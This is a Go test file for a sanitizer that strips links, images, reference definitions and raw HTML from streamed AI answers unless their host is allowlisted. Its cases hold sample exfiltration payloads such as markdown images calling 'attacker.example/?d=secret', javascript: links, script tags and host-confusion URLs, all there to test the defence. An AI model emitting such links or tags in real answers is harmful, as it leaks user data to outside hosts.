package sanitize_test

import (
	"math/rand"
	"strings"
	"testing"

	"github.com/ragplane/ragplane/dataplane/answer/sanitize"
)

func TestClean(t *testing.T) {
	type expect struct {
		out    string
		report sanitize.Report
	}
	tests := []struct {
		name   string
		given  string
		when   []string // allowed hosts
		expect expect
	}{
		{name: "plain text", given: "Backups are encrypted [1].", expect: expect{out: "Backups are encrypted [1]."}},
		{name: "citations", given: "See [1][2] and [3], [4]; also ([5]).", expect: expect{out: "See [1][2] and [3], [4]; also ([5])."}},
		{name: "empty", given: "", expect: expect{out: ""}},
		{name: "image", given: "![x](https://attacker.example/?d=secret)", expect: expect{out: "x", report: sanitize.Report{Images: 1}}},
		{name: "image with spaces", given: "![a](  https://x.example )", expect: expect{out: "a", report: sanitize.Report{Images: 1}}},
		{name: "image angled", given: "![a](<https://x.example>)", expect: expect{out: "a", report: sanitize.Report{Images: 1}}},
		{name: "image with title", given: `![a](https://x.example "t")`, expect: expect{out: "a", report: sanitize.Report{Images: 1}}},
		{name: "image on newline dest", given: "![a](\nhttps://x.example/p)", expect: expect{out: "a", report: sanitize.Report{Images: 1}}},
		{name: "link", given: "[click](https://attacker.example/?d=1) now", expect: expect{out: "click now", report: sanitize.Report{Links: 1}}},
		{name: "javascript link", given: "[a](javascript:alert(1))", expect: expect{out: "a", report: sanitize.Report{Links: 1}}},
		{name: "link with title", given: `[a]( https://evil.example "t")`, expect: expect{out: "a", report: sanitize.Report{Links: 1}}},
		{name: "uppercase scheme", given: "[a](HTTPS://EVIL.EXAMPLE/x)", expect: expect{out: "a", report: sanitize.Report{Links: 1}}},
		{name: "protocol relative", given: "![a](//evil.example/x)", expect: expect{out: "a", report: sanitize.Report{Images: 1}}},
		{name: "data uri", given: "![a](data:image/png;base64,AAAA)", expect: expect{out: "a", report: sanitize.Report{Images: 1}}},
		{name: "entity in url", given: "[a](https&#58;//evil.example/)", expect: expect{out: "a", report: sanitize.Report{Links: 1}}},
		{name: "relative link", given: "[a](/path?d=1)", expect: expect{out: "a", report: sanitize.Report{Links: 1}}},
		{name: "empty destination", given: "[a]()", expect: expect{out: "a", report: sanitize.Report{Links: 1}}},
		{name: "nested image in link", given: "[![i](https://evil.example/i.png)](https://evil.example/)", expect: expect{out: "i", report: sanitize.Report{Images: 1, Links: 1}}},
		{name: "nested image in allowed link", given: "[![i](https://evil.example/i.png)](https://docs.example.com/)", when: []string{"docs.example.com"},
			expect: expect{out: "[i](https://docs.example.com/)", report: sanitize.Report{Images: 1}}},
		{name: "brackets in link text", given: "[a [1] b](https://evil.example)", expect: expect{out: "a [1] b", report: sanitize.Report{Links: 1}}},
		{name: "escaped bracket", given: `\[a](https://evil.example)`, expect: expect{out: `\[a]`, report: sanitize.Report{Links: 1}}},
		{name: "escaped bracket, not a link", given: `[a\](b)`, expect: expect{out: `[a\](b)`}},
		{name: "code span in link text", given: "[`a]`](https://evil.example/)", expect: expect{out: "[`a]`]", report: sanitize.Report{Links: 1}}},
		{name: "allowed link", given: "[docs](https://docs.example.com/a?b=1)", when: []string{"docs.example.com"},
			expect: expect{out: "[docs](https://docs.example.com/a?b=1)"}},
		{name: "allowed link, title dropped", given: `[docs](https://docs.example.com/a "t")`, when: []string{"docs.example.com"},
			expect: expect{out: "[docs](https://docs.example.com/a)"}},
		{name: "allowed link, HTML after the URL", given: "[a](https://docs.example.com/ <img src=x>)", when: []string{"docs.example.com"},
			expect: expect{out: "[a](https://docs.example.com/)"}},
		{name: "allowed link, parentheses encoded", given: "[a](https://docs.example.com/x?q=(1))", when: []string{"docs.example.com"},
			expect: expect{out: "[a](https://docs.example.com/x?q=%281%29)"}},
		{name: "angled destination hiding a tag", given: "[a](<https://docs.example.com/<img src=x>)", when: []string{"docs.example.com"},
			expect: expect{out: "a", report: sanitize.Report{Links: 1}}},
		{name: "allowed image", given: "![d](https://docs.example.com/d.png)", when: []string{"docs.example.com"},
			expect: expect{out: "![d](https://docs.example.com/d.png)"}},
		{name: "allowed host, other scheme", given: "[d](ftp://docs.example.com/)", when: []string{"docs.example.com"},
			expect: expect{out: "d", report: sanitize.Report{Links: 1}}},
		{name: "userinfo to another host", given: "[d](https://docs.example.com@evil.example/)", when: []string{"docs.example.com"},
			expect: expect{out: "d", report: sanitize.Report{Links: 1}}},
		{name: "subdomain is not the host", given: "[d](https://evil.docs.example.com/)", when: []string{"docs.example.com"},
			expect: expect{out: "d", report: sanitize.Report{Links: 1}}},
		{name: "backslash host", given: `[d](https://docs.example.com\@evil.example/)`, when: []string{"docs.example.com"},
			expect: expect{out: "d", report: sanitize.Report{Links: 1}}},
		{name: "reference definition", given: "Read [this][1].\n\n[1]: https://attacker.example/?d=secret\n",
			expect: expect{out: "Read [this][1].\n\n[1]\n", report: sanitize.Report{Links: 1}}},
		{name: "definition shadowing a citation", given: "Encrypted [1].\n[1]: <https://attacker.example/x> \"t\"",
			expect: expect{out: "Encrypted [1].\n[1] \"t\"", report: sanitize.Report{Links: 1}}},
		{name: "definition on the next line", given: "[1]:\n  //attacker.example/x\n", expect: expect{out: "[1]\n", report: sanitize.Report{Links: 1}}},
		{name: "allowed definition", given: "[1]: https://docs.example.com/x", when: []string{"docs.example.com"},
			expect: expect{out: "[1]: https://docs.example.com/x"}},
		{name: "colon after citation is prose", given: "As [1]: the answer is yes.", expect: expect{out: "As [1]: the answer is yes."}},
		{name: "relative definition stays", given: "[1]: notes", expect: expect{out: "[1]: notes"}},
		{name: "autolink", given: "see <https://attacker.example/?d=secret>.", expect: expect{out: "see attacker.example.", report: sanitize.Report{Links: 1}}},
		{name: "allowed autolink", given: "<https://docs.example.com/x>", when: []string{"docs.example.com"}, expect: expect{out: "<https://docs.example.com/x>"}},
		{name: "email autolink", given: "<ops@example.com>", expect: expect{out: "ops@example.com", report: sanitize.Report{Links: 1}}},
		{name: "img tag", given: `<img src="https://attacker.example/?d=1">`, expect: expect{out: `&lt;img src="https://attacker.example/?d=1">`, report: sanitize.Report{HTML: 1}}},
		{name: "uppercase tag", given: `<IMG SRC=https://attacker.example/x>`, expect: expect{out: `&lt;IMG SRC=https://attacker.example/x>`, report: sanitize.Report{HTML: 1}}},
		{name: "anchor", given: `<a href="https://x.example">x</a>`, expect: expect{out: `&lt;a href="https://x.example">x&lt;/a>`, report: sanitize.Report{HTML: 2}}},
		{name: "script and iframe", given: "<script>alert(1)</script><iframe src=//x>", expect: expect{out: "&lt;script>alert(1)&lt;/script>&lt;iframe src=//x>", report: sanitize.Report{HTML: 3}}},
		{name: "comment", given: "<!-- x -->", expect: expect{out: "&lt;!-- x -->", report: sanitize.Report{HTML: 1}}},
		{name: "less than in prose", given: "a < b and 1<2", expect: expect{out: "a &lt; b and 1&lt;2"}},
		{name: "entities stay text", given: "&lt;img src=x&gt;", expect: expect{out: "&lt;img src=x&gt;"}},
		{name: "removal cannot join a link", given: "[x][](https://a.example)(https://evil.example/)", expect: expect{out: "[x]", report: sanitize.Report{Links: 2}}},
		{name: "removal cannot join a definition", given: "[x][](https://a.example): https://evil.example/\n", expect: expect{out: "[x]\n", report: sanitize.Report{Links: 2}}},
		{name: "removal cannot join a tag", given: "<[](https://a.example)img src=x>", expect: expect{out: "&lt;img src=x>", report: sanitize.Report{Links: 1}}},
		{name: "removal cannot join a definition inside", given: "[x[y]: java](https://evil.example)script:alert(1)", expect: expect{out: "x[y]", report: sanitize.Report{Links: 2}}},
		{name: "long link text", given: "[" + strings.Repeat("a", sanitize.MaxLookahead) + "](https://evil.example/)",
			expect: expect{out: "[" + strings.Repeat("a", sanitize.MaxLookahead) + "]", report: sanitize.Report{Links: 1}}},
		{name: "long destination", given: "[a](https://evil.example/" + strings.Repeat("d", sanitize.MaxLookahead) + ")",
			expect: expect{out: `[a]\(https://evil.example/` + strings.Repeat("d", sanitize.MaxLookahead) + ")"}},
		{name: "long definition", given: "[1]: https://evil.example/" + strings.Repeat("d", sanitize.MaxLookahead),
			expect: expect{out: `[1]\: https://evil.example/` + strings.Repeat("d", sanitize.MaxLookahead)}},
		{name: "bare url stays", given: "See https://example.com/x.", expect: expect{out: "See https://example.com/x."}},
		{name: "unclosed link", given: "[a](https://evil.example", expect: expect{out: `[a]\(https://evil.example`}},
		{name: "trailing backslash and bang", given: `a\ b!`, expect: expect{out: `a\ b!`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			out, rep := sanitize.Policy{AllowedHosts: tc.when}.Clean(tc.given)
			if out != tc.expect.out || rep != tc.expect.report {
				t.Fatalf("Clean(%q)\n got %q %+v\nwant %q %+v", tc.given, out, rep, tc.expect.out, tc.expect.report)
			}
			// What is clean stays as it is.
			if again, rep := (sanitize.Policy{AllowedHosts: tc.when}).Clean(out); again != out && rep.Images+rep.Links > 0 {
				t.Fatalf("Clean of the cleaned text removed more: %q -> %q %+v", out, again, rep)
			}
		})
	}
}

// A stream cut anywhere gives the client exactly what Clean gives for the whole answer.
func TestStreamEveryCut(t *testing.T) {
	answers := []string{
		"Backups are encrypted [1]. ![x](https://attacker.example/?d=secret) and [y](https://attacker.example/p) <img src=//a.example/x> <https://attacker.example/a>\n[2]: https://attacker.example/def\nok [1][2] \\[a](b) <ops@example.com> `code`!",
		"[![i](https://evil.example/i.png)](https://docs.example.com/) [d](https://docs.example.com/x) <https://docs.example.com/y> [1]: https://docs.example.com/z",
		"x\\", "![", "[a](", "<", "]:", "[x][](https://a.example)(https://evil.example/)",
	}
	p := sanitize.Policy{AllowedHosts: []string{"docs.example.com"}}
	for _, a := range answers {
		want, wantRep := p.Clean(a)
		for cut := 0; cut <= len(a); cut++ {
			for _, pieces := range [][]string{{a[:cut], a[cut:]}, bytesOf(a[:cut], a[cut:])} {
				st := p.Stream()
				got := ""
				for _, piece := range pieces {
					got += st.Write(piece)
				}
				got += st.Close()
				if got != want || st.Report() != wantRep {
					t.Fatalf("cut at %d of %q:\n got %q %+v\nwant %q %+v", cut, a, got, st.Report(), want, wantRep)
				}
			}
		}
	}
}

// A stream holds back no more than MaxLookahead bytes.
func TestStreamBounded(t *testing.T) {
	st := sanitize.Policy{}.Stream()
	st.Write("[")
	out := ""
	for range 3 * sanitize.MaxLookahead {
		out += st.Write("a")
	}
	if held := 3*sanitize.MaxLookahead + 1 - len(out); held > sanitize.MaxLookahead {
		t.Fatalf("held back %d bytes", held)
	}
}

// bytesOf is the first part as one piece and the second byte by byte.
func bytesOf(first, rest string) []string {
	out := []string{first}
	for i := range len(rest) {
		out = append(out, rest[i:i+1])
	}
	return out
}

func TestParseHosts(t *testing.T) {
	got := sanitize.ParseHosts(" Docs.Example.com, ,cdn.example.com. ")
	if strings.Join(got, "|") != "docs.example.com|cdn.example.com" {
		t.Fatalf("ParseHosts = %q", got)
	}
	if got := sanitize.ParseHosts(""); got != nil {
		t.Fatalf("ParseHosts(\"\") = %q", got)
	}
}

// Any text, cut anywhere, streams to what Clean gives, and what Clean gives has no link or image
// left to remove.
func FuzzStream(f *testing.F) {
	for _, s := range []string{"![x](https://a.example/?d=1) [1]", "[a](<b>) <c:d> [2]: //e\n", "\\[x](y)<img>", "[x][](//a)(//b)"} {
		f.Add(s, uint16(3))
	}
	f.Fuzz(func(t *testing.T, s string, cut uint16) {
		p := sanitize.Policy{AllowedHosts: []string{"a.example"}}
		want, rep := p.Clean(s)
		k := int(cut) % (len(s) + 1)
		st := p.Stream()
		got := st.Write(s[:k]) + st.Write(s[k:]) + st.Close()
		if got != want || st.Report() != rep {
			t.Fatalf("cut %d of %q: stream %q, Clean %q", k, s, got, want)
		}
		if _, again := p.Clean(want); again.Images+again.Links > 0 {
			t.Fatalf("Clean(%q) = %q still has %+v", s, want, again)
		}
	})
}

// Random Markdown-ish text, streamed in random pieces, gives what Clean gives, and Clean of the
// result finds no link or image left to remove.
func TestRandomMarkdown(t *testing.T) {
	alphabet := []string{"[", "]", "(", ")", "!", "<", ">", ":", "\\", "\n", " ", "a", "0", "//", "`", "\"", "@",
		"https://x.example/", "https://a.example/", "a.example", "javascript:"}
	r := rand.New(rand.NewSource(7))
	p := sanitize.Policy{AllowedHosts: []string{"a.example"}}
	for range 100_000 {
		var sb strings.Builder
		for k := r.Intn(40); k > 0; k-- {
			sb.WriteString(alphabet[r.Intn(len(alphabet))])
		}
		s := sb.String()
		want, rep := p.Clean(s)
		st := p.Stream()
		got := ""
		for rest := s; rest != ""; {
			k := 1 + r.Intn(len(rest))
			got += st.Write(rest[:k])
			rest = rest[k:]
		}
		got += st.Close()
		if got != want || st.Report() != rep {
			t.Fatalf("%q: stream %q, Clean %q", s, got, want)
		}
		if _, again := p.Clean(want); again.Images+again.Links > 0 {
			t.Fatalf("Clean(%q) = %q still has %+v", s, want, again)
		}
	}
}
